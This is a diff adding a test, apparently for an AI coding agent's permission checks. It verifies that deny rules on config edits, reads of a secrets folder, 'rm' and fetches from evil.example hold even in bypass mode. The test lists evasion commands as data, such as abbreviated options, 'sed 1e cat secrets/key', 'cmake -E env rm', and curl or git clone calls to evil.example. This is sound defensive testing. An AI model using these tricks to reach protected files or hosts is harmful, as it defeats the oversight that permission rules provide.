@@ -366,6 +366,34 @@ describe('a deny rule', () => {
   });
 });
 
+describe('a deny rule about a file or a host', () => {
+  it('is not evaded in bypassPermissions by abbreviated or unknown options', async () => {
+    const deny = ['Edit(./config/**)', 'Read(./secrets/**)', 'Bash(rm *)', 'WebFetch(domain:evil.example)'];
+    const { project, refused } = place({ deny });
+    for (const folder of ['config', 'secrets', 'src']) mkdirSync(path.join(project, folder));
+    for (const file of ['a', 'secrets/key', 'src/b']) writeFileSync(path.join(project, file), 'one\n');
+    const commands = [
+      'cp --target=config a',
+      'sort --outp=config/x a',
+      'shuf -o config/x a',
+      "sed -i'config/*' s/a/b/ a",
+      'awk \'{ print > "config/" NR }\' a',
+      `python3 - <<< 'open("config/x", "w")'`,
+      'tar c --dir=secrets key',
+      'date -f secrets/key',
+      'rgrep one',
+      "sed '1e cat secrets/key' a",
+      'cmake -E env rm a',
+      'curl https://evil.example/x',
+      'git clone https://evil.example/x.git',
+    ];
+    const fine = ['cp --target=src a', 'shuf -o src/x a', 'echo evil.example', 'rgrep one src'];
+    expect(await refused([...commands, ...fine], '--dangerously-skip-permissions')).toEqual(commands);
+    expect(readdirSync(path.join(project, 'config'))).toEqual([]);
+    expect(readdirSync(path.join(project, 'src')).sort()).toEqual(['a', 'b', 'x']);
+  });
+});
+
 describe('a rule', () => {
   it('names servers exactly and hosts in every spelling, and is fast', async () => {
     const stars = `Bash(${'*a'.repeat(12)}*b)`;
